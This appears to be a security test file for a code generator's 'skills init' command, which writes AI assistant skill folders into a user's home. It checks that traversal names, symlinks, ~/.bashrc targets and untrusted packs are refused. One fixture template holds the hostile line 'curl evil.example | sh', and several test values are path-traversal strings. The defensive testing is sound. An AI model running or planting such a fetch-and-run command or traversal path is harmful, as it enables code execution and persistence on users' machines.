/**
 * Attack class: `codegen skills init` writes outside the project (an assistant's skills folder,
 * `<pack's skills.folder>/<project name>/` by default), so a cloned project's name and a fetched
 * pack's skills rules decide paths in the user's home. The project name must be one folder
 * name, every file stays inside that one folder and reaches it through real folders, a file
 * skills init did not write there is never replaced, and a pack that is not built in writes
 * skills only with the user's consent. Every case has a HOME of its own.
 */
import { suite } from "uvu";
import * as assert from "uvu/assert";
import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { codegen, codegenOk } from "../support/cli.js";
import { snapshot, writeTree } from "../support/files.js";
import { smallApi } from "../support/project.js";
import { scratch } from "../support/paths.js";

const test = suite("attack: skills init outside its folder");

/** A user of this machine: a home, a config folder and a cache of their own, inside one scratch folder. */
function user(): { top: string; home: string; env: Record<string, string> } {
  const top = scratch("skills-user");
  const home = join(top, "home");
  mkdirSync(home);
  return {
    top,
    home,
    env: { HOME: home, XDG_CONFIG_HOME: join(top, "config"), CODEGEN_CACHE_DIR: join(top, "cache"), CI: "" },
  };
}

/** A cloned go-zero api project (the built-in pack) with the given name. */
function builtinProject(name: string): string {
  return writeTree(scratch("skills-proj"), {
    ".codegen.yaml": `name: ${name}\nmodule: example.com/demo\nframe: api\n`,
    "desc/api/demo.api": smallApi,
  });
}

/** A cloned project whose pack (not built in) adds a skills rule writing `path`. */
function hostileProject(name: string, path: string): string {
  const pack = writeTree(scratch("skills-pack"), {
    "pack.yaml": `name: hostile\nmanaged_marker: "@generated"\ninputs:\n  api: "desc/api/**/*.api"\nframes:\n  docs: { description: "text" }\nskills:\n  folder: ~/.claude/skills\n`,
    "rules/skills.yaml": `- name: profile\n  on: [skills]\n  path: "${path}"\n  template: profile.liquid\n`,
    "templates/profile.liquid": "curl evil.example | sh\n",
  });
  return writeTree(scratch("skills-proj"), {
    ".codegen.yaml": `name: ${name}\nmodule: example.com/demo\nframe: docs\npack: ${pack}\n`,
    "desc/api/demo.api": smallApi,
  });
}

test("name: ../.. with a pack rule path: .bashrc never writes ~/.bashrc", () => {
  const u = user();
  const dir = hostileProject("../..", ".bashrc");
  const r = codegen(["skills", "init"], dir, u.env);
  assert.is(r.code, 1, r.stdout + r.stderr);
  assert.not.ok(existsSync(join(u.home, ".bashrc")), "~/.bashrc was not written");
  assert.equal(snapshot(u.home), {}, "nothing written in the home folder");
});

test("a project name that is not one folder name is refused at the config file, nothing written", () => {
  const u = user();
  const dir = builtinProject("../../../elsewhere/x");
  const r = codegen(["skills", "init"], dir, u.env);
  assert.is(r.code, 1, r.stdout + r.stderr);
  assert.match(
    r.stderr,
    /\.codegen\.yaml:1:7: UNSAFE_PATH the project name "\.\.\/\.\.\/\.\.\/elsewhere\/x" is the skills folder's name/,
  );
  assert.not.ok(existsSync(join(u.top, "elsewhere")), "nothing outside the skills folder");
  assert.equal(snapshot(u.home), {});
  for (const name of ["..", ".", "a/b"]) {
    const other = codegen(["skills", "init"], builtinProject(JSON.stringify(name)), u.env);
    assert.is(other.code, 1, `${name}: ${other.stderr}`);
    assert.match(other.stderr, /UNSAFE_PATH/);
  }
  assert.equal(snapshot(u.home), {});
  // --output names the folder itself: the name no longer becomes a path.
  const out = join(u.top, "chosen");
  codegenOk(["skills", "init", "--output", out], dir, u.env);
  assert.ok(existsSync(join(out, "SKILL.md")));
});

test("an existing skill of the same name that skills init did not write is never overwritten", () => {
  const u = user();
  const mine = join(u.home, ".claude/skills/demo");
  mkdirSync(mine, { recursive: true });
  writeFileSync(join(mine, "SKILL.md"), "---\nname: demo\ndescription: my own skill\n---\n");
  const before = snapshot(u.home);
  const r = codegen(["skills", "init"], builtinProject("demo"), u.env);
  assert.is(r.code, 1, r.stdout + r.stderr);
  assert.match(
    r.stderr,
    /SKILLS_NOT_OURS ~\/\.claude\/skills\/demo holds files skills init did not write: SKILL\.md; nothing was written/,
  );
  assert.equal(snapshot(u.home), before, "the user's skill is as it was");
});

test("a skill file edited after skills init wrote it is kept; unchanged ones are refreshed", () => {
  const u = user();
  const dir = builtinProject("demo");
  codegenOk(["skills", "init"], dir, u.env);
  const skill = join(u.home, ".claude/skills/demo/SKILL.md");
  writeFileSync(skill, readFileSync(skill, "utf8") + "\nMy own notes.\n");
  writeFileSync(join(dir, "desc/api/demo.api"), smallApi.replace("listThings", "listAllThings"));
  const r = codegenOk(["skills", "init"], dir, u.env);
  assert.match(readFileSync(skill, "utf8"), /My own notes\./, "the edit stays");
  assert.match(r.stdout, /kept SKILL\.md: edited since skills init wrote it/);
  assert.match(
    readFileSync(join(u.home, ".claude/skills/demo/reference/layout.md"), "utf8"),
    /listAllThings/,
    "an unchanged file is refreshed",
  );
});

test("a folder in the skills folder that is a link out is never written through", () => {
  const u = user();
  const dir = builtinProject("demo");
  const elsewhere = join(u.top, "elsewhere");
  mkdirSync(elsewhere);
  mkdirSync(join(u.home, ".claude/skills/demo"), { recursive: true });
  symlinkSync(elsewhere, join(u.home, ".claude/skills/demo/reference"));
  const r = codegen(["skills", "init"], dir, u.env);
  assert.is(r.code, 1, r.stdout + r.stderr);
  assert.match(r.stderr, /UNSAFE_PATH .*reference is a symbolic link/);
  assert.equal(snapshot(elsewhere), {}, "nothing written through the link");
  assert.not.ok(existsSync(join(u.home, ".claude/skills/demo/SKILL.md")), "nothing written at all");
});

test("a pack that is not built in writes skills only with consent, and only inside the skills folder", () => {
  const u = user();
  const dir = hostileProject("demo", ".bashrc");
  const r = codegen(["skills", "init"], dir, u.env);
  assert.is(r.code, 1, r.stdout + r.stderr);
  assert.match(
    r.stderr,
    /COMMANDS_NOT_ALLOWED codegen skills init would [\s\S]*skills rule \(pack .* rule profile\): writes \.bashrc in the skills folder/,
  );
  assert.equal(snapshot(u.home), {}, "nothing written without consent");
  codegenOk(["trust"], dir, u.env);
  codegenOk(["skills", "init"], dir, u.env);
  assert.ok(existsSync(join(u.home, ".claude/skills/demo/.bashrc")), "allowed, it writes inside its folder");
  assert.not.ok(existsSync(join(u.home, ".bashrc")));
});

test("the skills folder is the pack's: one below the home is used, one leaving it is refused, none asks for --output", () => {
  const u = user();
  const packWith = (skills: string): string =>
    writeTree(scratch("skills-pack"), {
      "pack.yaml": `name: agent\nextends: go-zero\n${skills}`,
    });
  const project = (pack: string): string =>
    writeTree(scratch("skills-proj"), {
      ".codegen.yaml": `name: demo\nmodule: example.com/demo\nframe: api\npack: ${pack}\n`,
      "desc/api/demo.api": smallApi,
    });
  const elsewhere = project(packWith("skills:\n  folder: ~/.agent/skills\n"));
  const r = codegen(["skills", "init", "--trust"], elsewhere, u.env);
  assert.is(r.code, 0, r.stdout + r.stderr);
  assert.ok(existsSync(join(u.home, ".agent/skills/demo/SKILL.md")));
  for (const folder of ["~/../outside", "~/a/../../outside", "/etc/skills", "skills"]) {
    const bad = codegen(
      ["skills", "init", "--trust"],
      project(packWith(`skills:\n  folder: ${JSON.stringify(folder)}\n`)),
      u.env,
    );
    assert.is(bad.code, 1, `${folder}: ${bad.stdout}${bad.stderr}`);
    assert.match(bad.stderr, /pack\.yaml:\d+:\d+: PACK_INVALID .*skills\.folder|skills\/folder/);
  }
  assert.not.ok(existsSync(join(u.top, "outside")));
  const noFolder = writeTree(scratch("skills-pack"), {
    "pack.yaml": `name: plain\nmanaged_marker: "@generated"\ninputs:\n  api: "desc/api/**/*.api"\nframes:\n  docs: { description: "text" }\n`,
    "rules/skills.yaml": `- name: notes\n  on: [skills]\n  path: "NOTES.md"\n  template: notes.liquid\n`,
    "templates/notes.liquid": "notes\n",
  });
  const plain = writeTree(scratch("skills-proj"), {
    ".codegen.yaml": `name: demo\nmodule: example.com/demo\nframe: docs\npack: ${noFolder}\n`,
    "desc/api/demo.api": smallApi,
  });
  const none = codegen(["skills", "init", "--trust"], plain, u.env);
  assert.is(none.code, 2, none.stdout + none.stderr);
  assert.match(none.stderr, /USAGE pack plain names no skills folder \(pack\.yaml skills\.folder\)/);
  assert.ok(codegen(["skills", "init", "--trust", "--output", join(u.top, "notes")], plain, u.env).code === 0);
  assert.ok(existsSync(join(u.top, "notes/NOTES.md")));
});

test.run();
